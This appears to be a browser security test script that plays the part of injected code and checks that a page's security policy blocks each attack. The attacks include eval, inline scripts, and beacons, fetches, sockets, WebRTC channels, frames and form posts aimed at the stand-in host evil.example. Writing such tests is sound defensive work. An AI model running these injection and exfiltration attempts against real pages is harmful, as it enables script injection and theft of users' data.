// Runs as the page's own script in Chromium, as injected code would, and says what worked. Nothing should.
/* oxlint-disable no-eval, typescript/no-implied-eval, no-new-func -- attacking with them is the point */
const results = {}
const attempt = async (name, attack) => {
  try {
    results[name] = (await attack()) ?? 'refused'
  } catch {
    results[name] = 'refused'
  }
}
const loads = (element, parent = document.head) =>
  new Promise((resolve) => {
    element.addEventListener('load', () => resolve('worked'))
    element.addEventListener('error', () => resolve('refused'))
    parent.append(element)
    setTimeout(() => resolve('refused'), 300)
  })
const make = (tag, attributes) => Object.assign(document.createElement(tag), attributes)
const violated = []
document.addEventListener('securitypolicyviolation', (event) => violated.push(event.effectiveDirective))
/** For what gives no answer of its own: it worked unless the policy spoke up. */
const unlessViolated = async (directive, act) => {
  const before = violated.length
  act()
  await new Promise((resolve) => setTimeout(resolve, 150))
  return violated.slice(before).includes(directive) ? 'refused' : 'worked'
}

await attempt('eval', () => (0, eval)('"worked"'))
await attempt('Function', () => new Function('return "worked"')())
await attempt('timer from text', () => {
  setTimeout('window.timed = "worked"', 0)
  return new Promise((resolve) => setTimeout(() => resolve(window.timed), 50))
})
await attempt('inline script', () => {
  document.head.append(make('script', { textContent: 'window.inline = "worked"' }))
  return window.inline
})
await attempt('markup from text', () => {
  document.body.innerHTML = '<img src=x>'
  return 'worked'
})
await attempt('a policy that lets text through', () => {
  trustedTypes.createPolicy('mine', { createHTML: (text) => text })
  return 'worked'
})
await attempt('inline handler', () => {
  const button = document.createElement('button')
  button.setAttribute('onclick', 'window.clicked = "worked"')
  button.click()
  return window.clicked
})
await attempt('inline style', () => {
  document.head.append(make('style', { textContent: 'body { color: rgb(1, 2, 3) }' }))
  return getComputedStyle(document.body).color === 'rgb(1, 2, 3)' ? 'worked' : 'refused'
})
await attempt('script from elsewhere', () => loads(make('script', { src: 'https://evil.example/x.js' })))
await attempt('script from data', () => loads(make('script', { src: 'data:text/javascript,window.d=1' })))
await attempt('image as a beacon', () =>
  loads(make('img', { src: 'https://evil.example/x.png' }), document.body),
)
await attempt('style from elsewhere', () =>
  loads(make('link', { rel: 'stylesheet', href: 'https://evil.example/x.css' })),
)
await attempt('fetch elsewhere', () =>
  fetch('https://evil.example/', { mode: 'no-cors' }).then(() => 'worked'),
)
await attempt('fetch at home', () => fetch('/index.html').then(() => 'worked'))
await attempt('beacon', () =>
  unlessViolated('connect-src', () => navigator.sendBeacon('https://evil.example/', 'x')),
)
await attempt('socket', () => {
  const socket = new WebSocket('wss://evil.example/')
  return new Promise((resolve) => {
    socket.addEventListener('open', () => resolve('worked'))
    socket.addEventListener('error', () => resolve('refused'))
  })
})
await attempt('peer', async () => {
  const { port } = Object.fromEntries(new URLSearchParams(window.location.search))
  const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] })
  const found = new Promise((resolve) => {
    peer.addEventListener('icecandidate', ({ candidate }) => candidate && resolve('worked'))
    setTimeout(() => resolve('refused'), 500)
  })
  peer.createDataChannel('leak')
  await peer.setLocalDescription(await peer.createOffer())
  return found
})
await attempt('frame', () =>
  unlessViolated('frame-src', () => document.body.append(make('iframe', { src: 'https://evil.example/' }))),
)
await attempt('worker', () => {
  const worker = new Worker('/page-attacks.js', { type: 'module' })
  return new Promise((resolve) => {
    worker.addEventListener('message', () => resolve('worked'))
    worker.addEventListener('error', () => resolve('refused'))
  })
})
await attempt('base', () => {
  document.head.append(make('base', { href: 'https://evil.example/' }))
  return document.baseURI.includes('evil') ? 'worked' : 'refused'
})
await attempt('form', () => {
  const target = make('iframe', { name: 'target' })
  const form = make('form', { action: 'https://evil.example/', method: 'post', target: 'target' })
  document.body.append(target, form)
  return unlessViolated('form-action', () => form.submit())
})
await attempt('camera', () => navigator.mediaDevices.getUserMedia({ video: true }).then(() => 'worked'))
await attempt('geolocation', () =>
  document.featurePolicy.allowsFeature('geolocation') ? 'worked' : 'refused',
)

window.results = results
